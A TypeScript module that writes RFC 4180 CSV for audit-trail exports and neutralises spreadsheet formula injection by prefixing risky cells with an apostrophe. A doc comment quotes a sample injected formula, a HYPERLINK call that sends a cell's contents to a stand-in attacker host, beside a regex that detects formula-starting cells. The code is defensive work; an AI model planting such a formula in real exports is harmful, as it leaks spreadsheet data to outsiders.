/**
 * @module
 * CSV as RFC 4180 writes it (comma-separated, CRLF line ends, a field quoted when it holds a
 * comma, a quote, CR or LF, its quotes doubled), for files opened in a spreadsheet.
 */

/** A cell's value: text, a number, or nothing (an empty field). */
export type CsvCell = string | number | null;

/**
 * A cell a spreadsheet would run as a formula (OWASP's "CSV injection"): `=`, `+`, `-` and `@`
 * start one, and a leading tab or CR is dropped by some before they look. An audit trail holds
 * what outsiders typed (user ids, user agents, wrong codes' details), so a cell like
 * `=HYPERLINK("https://evil.test?"&A1)` would act in the admin's spreadsheet; with a leading `'`
 * it is shown as the text it is. Numbers are written as numbers (`-1` stays a number).
 */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A field that must be quoted (RFC 4180 §2.6). */
const NEEDS_QUOTES = /[",\r\n]/;

/**
 * One record, with its CRLF line end.
 * @example
 * csvRecord(["a,b", null, 3, "=1+1"]) // `"a,b",,3,'=1+1\r\n`
 */
export function csvRecord(cells: readonly CsvCell[]): string {
  return `${cells.map(csvField).join(",")}\r\n`;
}

function csvField(cell: CsvCell): string {
  if (cell === null) return "";
  if (typeof cell === "number") return String(cell);
  const text = FORMULA_START.test(cell) ? `'${cell}` : cell;
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}
